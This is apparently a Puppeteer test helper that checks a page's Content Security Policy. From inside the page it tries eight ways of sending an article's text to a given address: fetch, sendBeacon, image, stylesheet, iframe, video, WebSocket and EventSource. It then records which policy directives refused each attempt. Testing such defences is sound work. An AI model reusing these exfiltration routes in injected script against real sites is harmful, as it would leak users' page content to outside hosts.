// Every way we know by which a script in a page could send its text away.

/**
 * @import { Page } from "puppeteer-core"
 */

/**
 * Tries them all from inside the page.
 * @param {Page} page
 * @param {string} target where to
 * @returns {Promise<string[]>} the policy's directives that refused one
 */
export function sendEveryWay(page, target) {
  return page.evaluate(async (address) => {
    /** @type {string[]} */
    const violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    const text = encodeURIComponent(document.getElementById("article")?.textContent ?? "");
    /** @param {"img" | "iframe" | "object" | "video" | "link" | "script"} tag @param {Record<string, string>} attributes */
    const load = (tag, attributes) =>
      new Promise((resolve) => {
        const made = document.createElement(tag);
        made.onload = made.onerror = resolve;
        // A frame or a film that is refused may never say so; the refusal itself does.
        document.addEventListener("securitypolicyviolation", resolve, { once: true });
        for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
        document.body.append(made);
      });
    const tries = [
      () => fetch(`${address}/fetch?${text}`, { mode: "no-cors" }),
      () => navigator.sendBeacon(`${address}/beacon`, text),
      () => load("img", { src: `${address}/image?${text}` }),
      () => load("link", { rel: "stylesheet", href: `${address}/style?${text}` }),
      () => load("iframe", { src: `${address}/frame?${text}` }),
      () => load("video", { src: `${address}/video?${text}` }),
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${address.replace("http", "ws")}/socket?${text}`);
          socket.onopen = socket.onerror = resolve;
        }),
      () =>
        new Promise((resolve) => {
          const events = new EventSource(`${address}/events?${text}`);
          events.onopen = events.onerror = resolve;
        }),
    ];
    for (const attempt of tries)
      await Promise.resolve()
        .then(attempt)
        .catch(() => null);
    return violations;
  }, target);
}
